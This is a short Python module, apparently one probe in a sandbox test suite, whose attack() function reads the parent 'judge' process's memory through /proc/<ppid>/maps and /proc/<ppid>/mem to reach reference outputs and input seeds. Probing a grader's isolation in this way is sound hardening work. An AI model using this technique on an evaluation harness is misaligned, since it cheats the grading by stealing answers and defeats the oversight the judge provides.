"""Another process's memory: the judge's (it holds the input seeds and reference outputs)."""
import posix

NAME = "judge_memory"


def attack():
    judge = posix.getppid() or 1
    fd = posix.open(f"/proc/{judge}/maps", posix.O_RDONLY)
    start = int(posix.read(fd, 4096).split(b"-")[0], 16)
    fd = posix.open(f"/proc/{judge}/mem", posix.O_RDONLY)
    return posix.pread(fd, 64, start).hex()
